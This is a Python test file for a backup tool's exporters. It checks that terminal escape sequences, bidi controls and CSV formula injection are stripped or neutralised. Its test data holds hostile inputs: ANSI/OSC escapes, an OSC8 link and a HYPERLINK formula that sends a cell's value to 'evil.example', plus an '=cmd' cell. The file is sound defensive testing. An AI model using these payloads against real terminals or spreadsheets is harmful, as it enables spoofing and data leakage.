"""Vendor text on its way out: terminal escapes stripped from tables, CSV formulas neutralised, JSON exact."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from backupbridge import plugins
from backupbridge.exporters import (
    compact_table,
    table_console,
    write_capability_table,
    write_csv,
    write_csv_raw,
    write_json,
    write_ndjson,
    write_plugin_list,
    write_table,
)
from backupbridge.models import Company, Device
from backupbridge.terminal import csv_cell, json_text, one_line, printable
from tests.core.test_plugins import fake_vendor

CLEAR_SCREEN = "\x1b[2J\x1b[H"
OSC_TITLE_BEL = "\x1b]0;pwned\x07"
OSC_TITLE_ST = "\x1b]2;pwned\x1b\\"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
C1_CSI = "\x9b2J"
C1_OSC = "\x9d0;pwned\x9c"
BIDI = "\u202egpj.exe"

HOSTILE = [
    pytest.param(f"{CLEAR_SCREEN}SRV01", "SRV01", id="csi-clear-screen"),
    pytest.param(f"SRV01{OSC_TITLE_BEL}", "SRV01", id="osc-title-bel"),
    pytest.param(f"SRV01{OSC_TITLE_ST}", "SRV01", id="osc-title-st"),
    pytest.param(f"SRV01 {OSC8_LINK}", "SRV01 click me", id="osc8-hyperlink"),
    pytest.param(f"{C1_CSI}SRV01", "SRV01", id="8bit-csi"),
    pytest.param(f"SRV01{C1_OSC}", "SRV01", id="8bit-osc"),
    pytest.param("\x1b[31;1mred\x1b[0m", "red", id="csi-sgr"),
    pytest.param("\x1b[?1049h\x1b[?25lhidden", "hidden", id="csi-private-modes"),
    pytest.param("\x1bP1$qm\x1b\\SRV", "SRV", id="dcs"),
    pytest.param("\x1b_apc payload\x1b\\SRV", "SRV", id="apc"),
    pytest.param("\x1bcSRV\x1b(B\x1b7", "SRV", id="esc-reset-charset-save"),
    pytest.param("SRV\x1b", "SRV", id="lone-esc"),
    pytest.param("bell\x07\x08\x7f", "bell", id="bel-backspace-del"),
    pytest.param(f"invoice{BIDI}", "invoicegpj.exe", id="bidi-override"),
    pytest.param("a\u2066b\u2069c\u200fd\u061c", "abcd", id="bidi-isolates-marks"),
]


@pytest.mark.parametrize(("hostile", "shown"), HOSTILE)
def test_printable_strips_escape_sequences_and_controls(hostile: str, shown: str) -> None:
    assert printable(hostile) == shown
    assert one_line(hostile) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Müller GmbH",
        "日本の会社",
        "Ærø Backup ÅS",
        "Zoë's laptop 🖥️",
        "Ünïcödé — “quoted” · ½",
        "Ölçek A.Ş.",
        "שלום",
        "",
    ],
)
def test_ordinary_unicode_passes_untouched(text: str) -> None:
    assert printable(text) == text
    assert one_line(text) == text
    assert csv_cell(text) == text


def test_printable_keeps_tabs_and_newlines_one_line_joins_them() -> None:
    assert printable("a\tb\nc") == "a\tb\nc"
    assert printable("a\r\nb") == "a\nb"  # a Windows line end is a line end
    assert one_line("first\n\tsecond\r\nthird\u2028fourth") == "first second third fourth"
    assert printable("ok\rFAILED") == "okFAILED"  # a CR would overwrite what came before it
    assert one_line("ok\rFAILED") == "ok FAILED"
    assert printable("a\x85b") == "a\nb" and one_line("a\x85b") == "a b"  # NEL (C1) is a line break


def test_unterminated_sequences_leave_no_control_behind() -> None:
    for text in ("\x1b[", "\x1b[12;", "\x1b]0;title", "\x9b12", "\x1bP", "\x9d0;x"):
        cleaned = printable(f"A{text}")
        assert cleaned.startswith("A") and cleaned.isprintable(), repr(cleaned)


def test_a_lone_surrogate_becomes_the_replacement_character() -> None:
    assert printable("a\ud800b") == "a\ufffdb"
    assert csv_cell("a\udfffb") == "a\ufffdb"
    ("a\ud800b").encode("utf-8", "surrogatepass")  # the input really is a lone surrogate
    printable("a\ud800b").encode("utf-8")  # the output can be written


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%"])
def test_csv_cells_that_would_open_as_formulas_are_neutralised(start: str) -> None:
    value = f'{start}HYPERLINK("https://evil.example/?x="&A1,"open")'
    assert csv_cell(value) == "'" + value
    assert csv_cell("  " + value) == "'  " + value  # spaces in front do not hide it


@pytest.mark.parametrize("value", ["-5", "+1.5e3", "-0.25", "42", "SRV-01", "a=b", "user@example.com", "", "'x"])
def test_csv_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert csv_cell(value) == value


def test_csv_number_check_is_anchored_at_the_end() -> None:
    assert csv_cell("-5\n=cmd") == "'-5\n=cmd"
    assert csv_cell("-1+1") == "'-1+1"


def _device(name: str, **values: object) -> Device:
    return Device(vendor="acme", account="main", id="d1", name=name, **values)  # type: ignore[arg-type]


def _table(records: list[object]) -> str:
    stream = io.StringIO()
    write_table(records, stream)
    return stream.getvalue()


def test_table_cells_carry_no_escape_sequences() -> None:
    hostile = f"{CLEAR_SCREEN}{OSC_TITLE_BEL}SRV{OSC8_LINK}{C1_CSI}{BIDI}"
    out = _table([_device(hostile, agent_version="\x1b]0;v\x07"), _device("Müller GmbH")])
    assert "\x1b" not in out and "\x9b" not in out and "\u202e" not in out and "\x07" not in out
    assert "SRVclick megpj.exe" in out
    assert "Müller GmbH" in out
    assert out.rstrip().endswith("2 records")


def test_table_cell_with_line_breaks_stays_on_its_row() -> None:
    out = _table([_device("line1\nline2\r\nline3"), Company(vendor="acme", account="main", id="c1", name="x")])
    assert "line1 line2 line3" in out


def test_compact_table_rows_and_title_are_one_line_markup_kept() -> None:
    table = compact_table(f"title{OSC_TITLE_BEL}")
    table.add_column("c")
    table.add_row(f"[bold]{CLEAR_SCREEN}a cell wider than the title[/]")
    stream = io.StringIO()
    table_console(stream).print(table)
    assert "\x1b" not in stream.getvalue() and "\x07" not in stream.getvalue()
    assert "cell" in stream.getvalue() and "title" in stream.getvalue() and "[bold]" not in stream.getvalue()


def _csv(records: list[object], writer: object = write_csv) -> list[dict[str, str]]:
    stream = io.StringIO()
    writer(records, stream)  # type: ignore[operator]
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))


def test_csv_neutralises_formulas_by_default_and_keeps_numbers() -> None:
    rows = _csv([_device('=HYPERLINK("https://evil.example","x")', agent_version="-5", tags=("@SUM(A1)", "ok"))])
    assert rows[0]["name"] == '\'=HYPERLINK("https://evil.example","x")'
    assert rows[0]["agent_version"] == "-5"
    assert rows[0]["tags"] == "'@SUM(A1);ok"


def test_csv_raw_writes_every_cell_as_the_vendor_sent_it() -> None:
    name = "=1+1\x1b[2J"
    assert _csv([_device(name)], write_csv_raw)[0]["name"] == name
    assert "csv-raw" in {e.name for e in plugins.list_exporters()}


def test_csv_carriage_return_in_a_cell_cannot_start_a_row() -> None:
    # Unquoted, "x\r=cmd" would be read as two rows, the second one a formula the first-character check missed.
    stream = io.StringIO()
    write_csv([_device("x\r=cmd()"), _device("second")], stream)
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert [r[3] for r in rows] == ["name", "x\r=cmd()", "second"]


def test_csv_refuses_records_of_another_shape_rather_than_dropping_fields() -> None:
    with pytest.raises(ValueError, match="one type"):
        write_csv([Company(vendor="acme", account="main", id="c1", name="x"), _device("d")], io.StringIO())


class TerminalStream(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_on_a_terminal_is_also_stripped_of_escapes() -> None:
    for writer in (write_csv, write_csv_raw):
        stream = TerminalStream()
        writer([_device(f"{CLEAR_SCREEN}SRV{OSC_TITLE_BEL}")], stream)
        assert "\x1b" not in stream.getvalue() and "SRV" in stream.getvalue()


HOSTILE_JSON = f"{CLEAR_SCREEN}\x00\x7f{C1_CSI}{C1_OSC}{BIDI}\u2028\u2029 Müller 日本 \ud800"


@pytest.mark.parametrize("writer", [write_json, write_ndjson])
def test_json_is_exact_and_escapes_what_acts_on_a_terminal(writer: object) -> None:
    record = _device(HOSTILE_JSON, agent_version="日本")
    stream = io.StringIO()
    writer([record], stream)  # type: ignore[operator]
    out = stream.getvalue()
    decoded = json.loads(out)
    row = decoded[0] if isinstance(decoded, list) else decoded
    assert row["name"] == HOSTILE_JSON  # the same value, byte for byte once decoded
    assert all(ch not in out for ch in "\x1b\x00\x7f\x9b\x9d\x9c\u202e\u2028\u2029\ud800")
    assert "Müller 日本" in out  # ensure_ascii=False: ordinary text stays readable
    out.encode("utf-8")  # a lone surrogate no longer makes the output unwritable


def test_json_text_is_identity_for_ordinary_documents() -> None:
    text = json.dumps({"name": "Müller GmbH", "x": "日本", "n": 1}, ensure_ascii=False)
    assert json_text(text) == text
    assert json_text('"\x7f"') == '"\\u007f"'


def test_capability_table_prints_plugin_text_as_text() -> None:
    notes = {"list_devices": f"{CLEAR_SCREEN}fast{OSC8_LINK} [bold]x[/]"}
    vendor = attrs.evolve(fake_vendor("acme"), capability_notes=notes)
    stream = io.StringIO()
    write_capability_table([vendor], stream)
    out = stream.getvalue()
    assert "\x1b" not in out and "fast" in out and "[bold]x[/]" in out


def test_plugin_listing_is_one_line_per_plugin_without_escapes() -> None:
    failure = plugins.PluginFailure("evil", "evil-dist", f"ImportError: {CLEAR_SCREEN}boom\nsecond\tline")
    refused = plugins.PluginFailure("impostor", "impostor-dist", "DuplicateVendorError: taken", refused=True)
    info = plugins.PluginInfo("acme", "acme-backup", "1.0", ("acme",))
    skip = plugins.PluginSkip("other", "other-dist", "not in BACKUPBRIDGE_LOAD_PLUGINS")
    stream = io.StringIO()
    write_plugin_list([info], [failure, refused], stream, skipped=[skip])
    assert stream.getvalue().splitlines() == [
        "acme\tacme-backup 1.0\tvendors: acme",
        "evil\tFAILED\tImportError: boom second line",
        "impostor\tREFUSED\tDuplicateVendorError: taken",
        "other\tSKIPPED\tnot in BACKUPBRIDGE_LOAD_PLUGINS",
    ]


_ESCAPE_PARTS = st.sampled_from(["\x1b", "[", "]", "\\", "\x07", "\x9b", "\x9c", "\x9d", "\x90", ";", "8", "2J", "\r"])
_ANY_TEXT = st.lists(st.one_of(st.text(max_size=8), _ESCAPE_PARTS), max_size=20).map("".join)


_BIDI_CONTROLS = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@given(_ANY_TEXT)
def test_printable_output_never_holds_a_control(text: str) -> None:
    shown = printable(text)
    assert all(unicodedata.category(ch) not in ("Cc", "Cs", "Zl", "Zp") or ch in "\t\n" for ch in shown)
    assert not _BIDI_CONTROLS & set(shown)
    assert printable(shown) == shown  # idempotent
    line = one_line(text)
    assert all(unicodedata.category(ch) not in ("Cc", "Cs", "Zl", "Zp") for ch in line) and "\n" not in line


@given(st.text(st.characters(categories=("L", "M", "N", "P", "S", "Zs"))))
def test_text_without_controls_is_never_changed(text: str) -> None:
    assert printable(text) == text and one_line(text) == text


@pytest.mark.parametrize("hidden", ["\u200b", "\ufeff", "\u3000", "\u2060", "\u2009 "])
def test_a_formula_behind_an_invisible_prefix_is_neutralised(hidden: str) -> None:
    """Spreadsheets may skip zero-width marks, a BOM or wide spaces before ``=`` (adversarial pass, issue 12)."""
    from backupbridge.terminal import csv_cell

    assert csv_cell(hidden + "=HYPERLINK(1)").startswith("'")
    assert csv_cell(hidden + "-5") == hidden + "-5"  # still a number
